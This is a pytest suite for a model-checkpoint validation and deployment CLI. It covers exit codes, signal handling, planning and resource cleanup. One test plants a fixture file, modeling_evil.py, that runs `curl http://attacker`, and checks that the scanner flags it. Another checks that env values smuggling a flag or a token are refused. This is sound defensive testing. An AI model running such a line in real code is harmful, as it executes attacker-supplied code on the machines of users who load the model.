"""The README's first command and the validate command, run as a user would."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT

MODELDROP = [sys.executable, "-m", "modeldrop"]


def _run(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    # The timeout guards against a hang, not a slow machine: a busy CI host may take minutes. The engine
    # check's probe (seconds of importing vLLM per run) is left to the tests of that step and the README's run.
    full = {**os.environ, "MODELDROP_ENGINE_CHECK": "Disabled", **(env or {})}
    return subprocess.run([*MODELDROP, *args], capture_output=True, text=True, cwd=cwd, timeout=1800, env=full)


def test_run_local_default_succeeds_and_says_what_served_the_endpoint() -> None:
    """Hermetic too: the shell's AWS endpoint and profile are set aside for the emulated account."""
    result = _run("run-local", env={"AWS_ENDPOINT_URL": "http://127.0.0.1:9", "AWS_PROFILE": "no-such-profile"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "SUCCESS" in result.stdout and "moto" in result.stdout
    assert "SmokeEval" in result.stdout and "SM_VLLM_MAX_NUM_SEQS=32" in result.stdout
    assert "EngineCheck" in result.stdout  # the step runs (here with the stack's check disabled, and says so)
    assert "reference engine" in result.stdout and "not a language model" in result.stdout
    assert "one-paragraph" in result.stdout and "TTFT" in result.stdout
    assert "Traceback" not in result.stdout + result.stderr


def test_run_local_json_failure_leaves_nothing() -> None:
    result = _run("run-local", "--fault", "oom", "--json")
    assert result.returncode == 1, result.stderr
    data = json.loads(result.stdout)
    assert data["status"] == "failed" and data["error"] == "EndpointFailed"
    assert data["leftover_resources"] == []
    assert "ping health check" in data["record"]["failure_reason"]
    assert data["record"]["steps"]["failure"]["diagnosis"] == "the engine ran out of GPU memory while loading"
    assert {s["name"] for s in data["states"]} >= {"ValidateCheckpoint", "RecordFailure", "Teardown", "MarkFailed"}


def test_bad_input_exits_2_without_traceback(tmp_path: Path) -> None:
    result = _run("run-local", str(tmp_path / "missing.tar.gz"))
    assert result.returncode == 2 and "no such file" in result.stderr
    result = _run("run-local", "--fault", "meteor")
    assert result.returncode == 2 and "unknown --fault" in result.stderr
    result = _run("run-local", "--engine", "vllm", env={"MODELDROP_VLLM_PYTHON": sys.executable})  # no vllm there
    assert result.returncode == 2 and "cannot import vllm" in result.stderr and "Traceback" not in result.stderr
    # Inputs validate refuses as unreadable (or that hold no checkpoint at all) are refused before anything
    # starts, with nothing on stderr but the error and its fix: no state ran, no library warning.
    notes, empty = tmp_path / "notes.txt", tmp_path / "empty-dir"
    notes.write_text("my notes\n")
    empty.mkdir()
    for given, says in ((notes, "not a tar archive"), (empty, "not a checkpoint: the directory holds")):
        result = _run("run-local", str(given))
        assert result.returncode == 2 and says in result.stderr, result.stderr
        lines = result.stderr.strip().splitlines()
        assert lines[0].startswith("error: ") and lines[1].startswith("  fix: ") and len(lines) == 2, lines
        assert result.stdout == ""  # the state machine never started


def test_sample_writes_a_checkpoint_that_validates_and_refuses_a_used_directory(tmp_path: Path) -> None:
    target = tmp_path / "my-checkpoint"
    wrote = _run("sample", str(target), "--json")
    assert wrote.returncode == 0, wrote.stderr
    assert "config.json" in json.loads(wrote.stdout)["files"]
    assert _run("validate", str(target)).returncode == 0
    again = _run("sample", str(target))
    assert again.returncode == 2 and "not an empty directory" in again.stderr


def test_validate_exit_codes(tmp_path: Path) -> None:
    from modeldrop.local.samples.checkpoint import BROKEN_DROP, write_checkpoint

    ok = write_checkpoint(tmp_path / "ok")
    assert _run("validate", str(ok)).returncode == 0
    bad = write_checkpoint(tmp_path / "bad", drop_kv_shared=True, drop=BROKEN_DROP)
    refused = _run("validate", str(bad), "--json")
    assert refused.returncode == 1
    report = json.loads(refused.stdout)
    assert report["deployable"] is False and len(report["kv_shared"]["missing"]) == 6
    (tmp_path / "junk.tar.gz").write_bytes(b"not gzip at all")
    unreadable = _run("validate", str(tmp_path / "junk.tar.gz"))
    assert unreadable.returncode == 2 and "Traceback" not in unreadable.stderr


def documentation() -> str:
    """The README and every page of the docs site, as one text."""
    return "\n".join(p.read_text() for p in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))])


def test_readme_commands_exist() -> None:
    readme = documentation()
    makefile = (ROOT / "Makefile").read_text()
    for target in ("run-local", "test"):
        assert f"make {target}" in readme and f"\n{target}:" in makefile
    help_text = _run("run-local", "--help").stdout
    for option in ("--fault", "--engine", "--deploy-engine", "--json"):
        assert option in readme and option in help_text
    from modeldrop.local.faults import FAULTS

    for fault in FAULTS:
        assert f"`{fault}`" in readme, fault
    eval_help = _run("eval", "--help").stdout
    for option in ("--eval-set", "--stream", "--no-stream", "--json"):
        assert option in eval_help and option in readme
    assert "make bench" in readme and "\nbench:" in makefile
    repair_help = _run("repair", "--help").stdout + _run("validate", "--help").stdout
    for option in ("--base", "--out"):
        assert option in repair_help and option in readme
    plan_help = _run("plan", "--help").stdout
    for option in ("--engine", "--region", "--instance-type", "--max-model-len", "--max-num-seqs", "--force"):
        assert option in plan_help and option in readme


def run_version() -> int:
    return _run("--version").returncode


def test_every_documented_command_and_option_exists() -> None:
    """README and docs code blocks: each `modeldrop CMD ... --option` must be a real command and option."""
    import re

    from typer.testing import CliRunner

    from modeldrop.cli import app
    from modeldrop.contracts.models import DeploymentRequest

    readme = documentation()
    blocks = re.findall(r"```bash\n(.*?)```", readme, flags=re.S)
    lines = [ln.strip() for block in blocks for ln in block.splitlines() if ln.strip().startswith("modeldrop ")]
    # `modeldrop --version` is an option of the program, not a command.
    assert "modeldrop --version" in lines and run_version() == 0
    lines = [ln for ln in lines if not ln.split()[1].startswith("-")]
    documented = {line.split()[1] for line in lines} | {"run-local"}  # run-local: `make run-local` + its options
    assert documented == {c.name for c in app.registered_commands} | {g.name for g in app.registered_groups}
    runner = CliRunner()
    for line in lines:
        command = line.split()[1:3] if line.split()[1] == "local" else line.split()[1:2]
        help_text = runner.invoke(app, [*command, "--help"], terminal_width=200).output
        assert "Usage:" in help_text, (command, help_text)
        for option in re.findall(r"(--[a-z][a-z-]*)", re.sub(r"\$\(.*?\)", "", line)):
            assert option in help_text, (line, option)
    for field in DeploymentRequest.model_fields:
        assert f"`{field}`" in readme, field


def _engines_of(parent: int) -> list[int]:
    """Live (not zombie) reference-engine processes whose parent is PARENT."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if int(stat[1]) == parent and stat[0] != "Z" and b"reference_engine" in cmdline:
            found.append(int(entry))
    return found


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _default_sigint() -> None:
    # As a terminal's foreground job has it, whatever the test runner inherited (a shell without job
    # control starts background jobs with SIGINT ignored, and Python then never raises KeyboardInterrupt).
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.parametrize(
    ("after_line", "sig"),
    [
        ("ValidateCheckpoint", signal.SIGINT),  # before any endpoint exists
        ("CreateEndpoint", signal.SIGTERM),  # the endpoint process is starting
        ("PollEndpoint", signal.SIGINT),  # the endpoint is loading (slow-start keeps it so)
        ("failed: EndpointFailed", signal.SIGINT),  # the run is already failing the slow start
    ],
)
def test_ctrl_c_or_sigterm_at_a_known_point_stops_every_endpoint_process(after_line: str, sig: int) -> None:
    """The run prints each state as it ends: interrupt it right after a given one, not after a guessed delay."""
    run = subprocess.Popen(
        [*MODELDROP, "run-local", "--fault", "slow-start"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONUNBUFFERED": "1", "COLUMNS": "200"},
        preexec_fn=_default_sigint,
    )
    assert run.stdout is not None
    seen: list[str] = []
    children: set[int] = set()
    watching = threading.Event()
    watching.set()

    def watch_children() -> None:  # every endpoint process the run starts, however briefly it lives
        while watching.is_set():
            children.update(_engines_of(run.pid))
            time.sleep(0.01)

    watcher = threading.Thread(target=watch_children, daemon=True)
    watcher.start()
    for line in run.stdout:
        seen.append(line)
        if after_line in line:
            break
    else:
        pytest.fail(f"the run ended before {after_line!r}:\n{''.join(seen)}{run.stderr.read() if run.stderr else ''}")
    run.send_signal(sig)
    out, err = run.communicate(timeout=60)
    watching.clear()
    watcher.join()
    assert run.returncode == 128 + sig, (run.returncode, err, out)
    assert "interrupted" in err and "no local endpoint process is left running" in err, err
    assert "Traceback" not in err + out and "SUCCESS" not in out and "FAILED" not in out, err + out
    if after_line != "ValidateCheckpoint":
        assert children, "the endpoint process was never seen"
    assert not [pid for pid in children if _alive(pid)], children


def test_ctrl_c_inherited_as_ignored_stays_ignored_and_sigterm_still_stops_the_run() -> None:
    run = subprocess.Popen(
        [*MODELDROP, "run-local", "--fault", "slow-start", "--json"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN),
    )
    deadline = time.monotonic() + 60
    children: list[int] = []
    while not children and time.monotonic() < deadline and run.poll() is None:
        time.sleep(0.05)
        children = _engines_of(run.pid)
    assert children, "no endpoint process was started"
    run.send_signal(signal.SIGINT)  # ignored, as the shell that started it asked
    time.sleep(0.3)
    assert run.poll() is None
    run.send_signal(signal.SIGTERM)
    out, err = run.communicate(timeout=60)
    assert run.returncode == 128 + signal.SIGTERM and out == "", (run.returncode, err)
    assert not [pid for pid in children if _alive(pid)], children


@pytest.mark.parametrize("state", ["CreateEndpoint", "RecordFailure"])
def test_ctrl_c_anywhere_in_the_run_leaves_no_process_and_starts_none(state: str) -> None:
    """In-process: KeyboardInterrupt raised in the watching thread as a signal would, at each point."""
    from modeldrop.local.scenarios.run import run_local

    def interrupt_at(run: Any) -> None:
        if run.name == state:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_local(fault="slow-start", on_state=interrupt_at)
    time.sleep(0.5)  # an execution still in flight would start its process by now
    assert _engines_of(os.getpid()) == []


def test_run_local_takes_a_directory_or_a_plain_tar(tmp_path: Path) -> None:
    import tarfile

    fixture = ROOT / "tests" / "fixtures" / "gemma4-text-kvshared"
    plain = tmp_path / "model.tar"
    with tarfile.open(plain, "w") as tar:
        for path in sorted(fixture.iterdir()):
            tar.add(path, arcname=path.name)
    for artifact in (plain, fixture):
        data = json.loads(_run("run-local", str(artifact), "--json").stdout)
        # Read as a checkpoint (not refused as a corrupt gzip): transformers dropped its KV-shared tensors,
        # which the default image's vLLM (0.30 on) does not build, so it deploys.
        assert data["status"] == "succeeded" and data["leftover_resources"] == [], (data["error"], data["cause"])


def test_create_throttled_past_the_sdk_retries_adopts_its_own_resources() -> None:
    result = _run("run-local", "--fault", "create-throttle", "--json")
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr
    data = json.loads(result.stdout)
    assert data["status"] == "succeeded" and data["leftover_resources"] == []
    name = data["record"]["endpoint_name"]
    # The retried step continued with the model and config the first attempt made: one set, deleted at exit.
    assert data["record"]["steps"]["create_endpoint"]["adopted"] == [f"model/{name}", f"endpoint-config/{name}"]
    served = data["record"]["served_uri"]
    expected = [f"endpoint/{name}", f"endpoint-config/{name}", f"model/{name}"]
    assert sorted(d for d in data["deleted_at_exit"] if not d.startswith(served)) == sorted(expected)
    assert f"{served}config.json" in data["deleted_at_exit"]


def test_plan_refuses_an_instance_type_typo_naming_the_real_one() -> None:
    fixture = ROOT / "tests" / "fixtures" / "gemma4-text-dense"
    result = _run("plan", str(fixture), "--instance-type", "ml.g6.2xlage", "--region", "us-east-1")
    assert result.returncode == 2 and "ml.g6.2xlarge" in result.stderr and "Traceback" not in result.stderr
    cpu = _run("plan", str(fixture), "--instance-type", "ml.m5.xlarge", "--region", "us-east-1")
    assert cpu.returncode == 2 and "no NVIDIA GPU" in cpu.stderr


def test_plan_does_not_let_a_raw_key_bypass_the_memory_plan(tmp_path: Path) -> None:
    """An E4B-sized multimodal checkpoint (15.18 GiB, sparse on disk) with SM_VLLM_MAX_NUM_SEQS=256."""
    import shutil
    import struct

    model = tmp_path / "e4b"
    shutil.copytree(ROOT / "tests" / "fixtures" / "gemma4-mm-kvshared-base", model)
    shard = model / "model.safetensors"
    blob = shard.read_bytes()
    (n,) = struct.unpack("<Q", blob[:8])
    header = json.loads(blob[8 : 8 + n])
    data = blob[8 + n :]
    filler = int(15.18 * 1024**3) - len(data)
    header["filler.weight"] = {"dtype": "U8", "shape": [filler], "data_offsets": [len(data), len(data) + filler]}
    raw = json.dumps(header).encode()
    with shard.open("wb") as out:
        out.write(struct.pack("<Q", len(raw)) + raw + data)
        out.truncate(8 + len(raw) + len(data) + filler)
    config = json.loads((model / "config.json").read_text())  # a released E4B has its tower config
    (model / "config.json").write_text(json.dumps({**config, "vision_config": {"model_type": "gemma4_vision"}}))
    args = ["plan", str(model), "--engine", "vllm", "--instance-type", "ml.g6.2xlarge", "--region", "us-east-1"]
    assert _run(*args).returncode == 0  # 32 sequences fit, as measured on an L4
    bypass = _run(*args, "--env", "SM_VLLM_MAX_NUM_SEQS=256")
    assert bypass.returncode == 1, bypass.stdout + bypass.stderr
    assert "fits" not in bypass.stdout.lower().split("verdict")[-1][:40] and "Traceback" not in bypass.stderr


def test_teardown_throttled_ten_times_still_leaves_nothing() -> None:
    result = _run("run-local", "--fault", "teardown-throttle", "--json")
    assert result.returncode == 1, result.stdout[-2000:] + result.stderr
    data = json.loads(result.stdout)
    assert data["error"] == "EndpointFailed" and data["leftover_resources"] == []
    assert data["record"]["steps"]["failure"]["diagnosis"] == "the engine ran out of GPU memory while loading"


def test_errors_are_one_json_object_on_stdout_with_json() -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(
        AWS_EC2_METADATA_DISABLED="true", AWS_CONFIG_FILE="/nonexistent", AWS_SHARED_CREDENTIALS_FILE="/nonexistent"
    )
    version = subprocess.run([*MODELDROP, "--version"], capture_output=True, text=True, env=env)
    assert version.returncode == 0 and version.stdout.startswith("modeldrop ")
    commands = [["plan", "/no/such/dir", "--json"], ["eval", "no-such-endpoint", "--json"]]
    commands += [["status", "no-such-id", "--json"], ["plan", "/no/such/dir", "--json", "--region", "us-east-1"]]
    for args in commands:
        run = subprocess.run([*MODELDROP, *args], capture_output=True, text=True, env=env, timeout=60)
        assert run.returncode == 2, (args, run.stdout, run.stderr)
        data = json.loads(run.stdout)
        assert data["error"] and data["message"] and "Traceback" not in run.stderr, (args, data)


def test_a_reupload_after_validation_does_not_reach_the_endpoint() -> None:
    result = _run("run-local", "--fault", "reupload", "--json")
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr
    data = json.loads(result.stdout)
    record = data["record"]
    assert data["status"] == "succeeded" and data["leftover_resources"] == []
    assert record["served_uri"].endswith(f"modeldrop-served/{data['deployment_id']}/")
    assert record["artifact_version"] and f"{record['served_uri']}config.json" in data["deleted_at_exit"]


def test_plan_at_80_columns_under_a_pty_prints_the_whole_image_uri() -> None:
    import pty
    import re

    fixture = str(ROOT / "tests" / "fixtures" / "gemma4-text-dense")
    uri = json.loads(_run("plan", fixture, "--region", "us-east-1", "--json").stdout)["image"]
    master, slave = pty.openpty()
    env = {**os.environ, "COLUMNS": "80", "TERM": "xterm"}
    proc = subprocess.Popen([*MODELDROP, "plan", fixture, "--region", "us-east-1"], stdout=slave, stderr=slave, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    assert proc.wait(timeout=60) == 0
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", b"".join(chunks).decode(errors="replace")).replace("\r", "")
    assert uri in text and "…" not in text, text
    # Everything else wraps at the terminal's width: only a word too long for any line (the URI) is longer.
    # A carriage return redraws the line (the progress bar's frames): each frame is a line of its own.
    frames = re.split(r"[\r\n]+", b"".join(chunks).decode(errors="replace"))
    frames = [re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", f) for f in frames]
    over = [line for line in frames if len(line) > 80 and not any(len(w) > 40 for w in line.split())]
    assert over == [], over


def test_named_engine_settings_reach_the_deployed_env_and_are_checked() -> None:
    """`vllm serve`'s names on run-local, planned and shipped; an impossible one is refused before AWS."""
    result = _run("run-local", "--gpu-memory-utilization", "0.85", "--dtype", "bfloat16", "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    data = json.loads(result.stdout)
    env = data["output"]["env"]
    assert env["SM_VLLM_GPU_MEMORY_UTILIZATION"] == "0.85" and env["SM_VLLM_DTYPE"] == "bfloat16"
    assert data["record"]["steps"]["build_env"]["memory"]["fraction"] == 0.85
    # The reports outlive the emulated bucket: local copies, named in the result.
    kept = data["local_reports"]
    assert set(kept) == {"validation", "eval", "eval_markdown"}, kept
    assert json.loads(Path(kept["eval"]).read_text())["passed"] is True
    assert data["eval_report"] == json.loads(Path(kept["eval"]).read_text())  # the kept copy, read once
    assert json.loads(Path(kept["validation"]).read_text())["deployable"] is True
    refused = _run("run-local", "--tensor-parallel-size", "2", "--json")
    data = json.loads(refused.stdout)
    assert refused.returncode == 1 and data["error"] == "PlanRefused" and "1 GPU" in data["cause"], data
    assert data["leftover_resources"] == []
    orphan = _run("run-local", "--speculative-tokens", "4")
    assert orphan.returncode == 2 and "--speculative-model" in orphan.stderr and "Traceback" not in orphan.stderr


def test_a_progress_bar_on_a_terminal_and_none_when_piped_or_json(tmp_path: Path) -> None:
    from modeldrop.local.samples.checkpoint import write_checkpoint, write_tar_gz

    d = write_checkpoint(tmp_path / "c")
    (d / "extra-weights.bin").write_bytes(os.urandom(48 << 20))
    packed = write_tar_gz(d, tmp_path / "model.tar.gz")
    log = tmp_path / "pty.log"
    # Under a pseudo-terminal (script(1)), as a user at a shell sees it.
    subprocess.run(
        ["script", "-qc", f"{sys.executable} -m modeldrop validate {packed} > /dev/null", str(log)],
        cwd=ROOT,
        capture_output=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "80"},
    )
    shown = log.read_bytes().decode(errors="replace")
    assert "validating" in shown and "MB" in shown, shown[-500:]
    piped = _run("validate", str(packed))
    assert piped.returncode == 0 and "validating" not in piped.stderr + piped.stdout
    as_json = _run("validate", str(packed), "--json")
    assert "validating" not in as_json.stderr and json.loads(as_json.stdout)["deployable"]


def test_two_runs_with_one_deployment_id_keep_reports_of_their_own() -> None:
    """Two run-locals started in the same second share a deployment id: neither overwrites the other's reports."""
    import boto3
    from moto import mock_aws

    from modeldrop.contracts.record import DeploymentRecord
    from modeldrop.local.scenarios.run import _keep_reports

    with mock_aws():
        s3 = boto3.client("s3", region_name="us-east-1")
        s3.create_bucket(Bucket="reports-x")
        stack = type("Stack", (), {"client": staticmethod(lambda name: s3)})()
        record = DeploymentRecord(deployment_id="local-20261201-221603", eval_report_uri="s3://reports-x/r/eval.json")
        kept = []
        for run in ("first", "second"):
            s3.put_object(Bucket="reports-x", Key="r/eval.json", Body=json.dumps({"run": run}).encode())
            kept.append(_keep_reports(stack, record, record.deployment_id)["eval"])
    assert kept[0] != kept[1]
    assert [json.loads(Path(k).read_text())["run"] for k in kept] == ["first", "second"]
    assert all(Path(k).parent.name.startswith(record.deployment_id) for k in kept)


def test_plan_refuses_env_values_that_would_smuggle_flags_or_credentials() -> None:
    from typer.testing import CliRunner

    from modeldrop.cli import app

    fixture = str(ROOT / "tests" / "fixtures" / "gemma4-text-dense")
    for env in (
        "SM_VLLM_SERVED_MODEL_NAME=m\nSM_VLLM_MAX_NUM_SEQS=1024",
        "SM_VLLM_HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123",
    ):
        result = CliRunner().invoke(app, ["plan", fixture, "--env", env, "--json"])
        assert result.exit_code == 2, result.output
        refused = json.loads(result.output)
        assert refused["error"] == "UsageError" and "hf_abcdef" not in result.output


def test_a_checkpoint_that_ships_code_says_so(checkpoint: Path) -> None:
    from modeldrop.checkpoint.archive.artifact_scan import scan_source
    from modeldrop.checkpoint.validation import validate_scan

    config = json.loads((checkpoint / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
    (checkpoint / "config.json").write_text(json.dumps(config))
    (checkpoint / "modeling_evil.py").write_text("import os\nos.system('curl http://attacker')\n")
    report = validate_scan(scan_source(str(checkpoint)))
    [finding] = [f for f in report.findings if f.code == "REMOTE_CODE"]
    assert "modeling_evil.py" in finding.message and "AllowTrustRemoteCode" in finding.hint


def test_plan_says_the_host_the_price_the_stack_limits_and_the_kv_floor(tmp_path: Path) -> None:
    from modeldrop.local.samples.checkpoint import write_checkpoint

    ckpt = write_checkpoint(tmp_path / "ck")
    priced = _run("plan", str(ckpt), "--region", "us-east-1")
    assert priced.returncode == 0, priced.stderr
    text = " ".join(priced.stdout.split())
    assert "host al2023-ami-sagemaker-inference-gpu-4-1 (NVIDIA driver 580) for the image's CUDA" in text
    assert text.count("al2023-ami-sagemaker-inference-gpu-4-1") == 1, text  # the AMI and its driver said once
    assert "stack limits within the default stack's" in text and "$1.22/h" in text
    assert "at least 0.5 GiB: below that vLLM cannot allocate enough KV blocks" in text and "PLAN OK" in text
    unpriced = " ".join(_run("plan", str(ckpt), "--region", "eu-west-3").stdout.split())
    assert "no price for eu-west-3" in unpriced and (
        "a default stack refuses it: no price is known for ml.g6.2xlarge in eu-west-3" in unpriced
    )
    assert "PLAN OK for the engine; a stack with the default limits refuses it" in unpriced


def test_the_text_summary_counts_deletions_shows_components_and_ends_with_the_verdict() -> None:
    from modeldrop.cli.run_summary import deletion_lines

    served = [f"s3://b/modeldrop-served/d1/f{i}.safetensors" for i in range(8)]
    lines = deletion_lines(["endpoint/e1", "endpoint-config/e1", "model/e1", *served])
    assert lines == ["endpoint: e1", "endpoint-config: e1", "model: e1", "8 files under s3://b/modeldrop-served/d1/"]
    done = _run("run-local", "--adapter", "--adapter-mode", "shared", "--adapters", "2")
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    out = done.stdout.strip().splitlines()
    assert out[-1].startswith("SUCCESS deployment") and out[-2].startswith("leftover resources: none")
    assert sum(line.startswith("component ") for line in out) == 3 and any(line.startswith("torn down") for line in out)
    assert not any("modeldrop-served/" in line and ".safetensors" in line for line in out)  # counted, not listed
    verbose = _run("run-local", "--verbose").stdout
    assert ".safetensors" in verbose.split("deleted at exit", 1)[1]


def test_deploy_of_a_local_directory_points_to_upload(tmp_path: Path) -> None:
    done = _run("deploy", str(tmp_path), "--stack", "s", "--region", "us-east-1", "--json")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    answer = json.loads(done.stdout)
    assert answer["error"] == "RequestInvalid" and f"modeldrop upload {tmp_path} s3://" in answer["hint"]


def test_local_down_signals_only_the_local_stack_a_state_file_names(tmp_path: Path) -> None:
    """A state file naming some other process of ours (here: this test) is stale, never obeyed."""
    state = tmp_path / "state.json"
    state.write_text(json.dumps({"pid": os.getpid()}))
    env = {"MODELDROP_LOCAL_STATE": str(state)}
    done = _run("local", "down", "--json", env=env)
    assert json.loads(done.stdout) == {"stopped": False} and not state.exists()
    state.write_text("not json")
    done = _run("local", "down", "--json", env=env)
    assert done.returncode == 2 and "not a local stack's state" in json.loads(done.stdout)["message"]
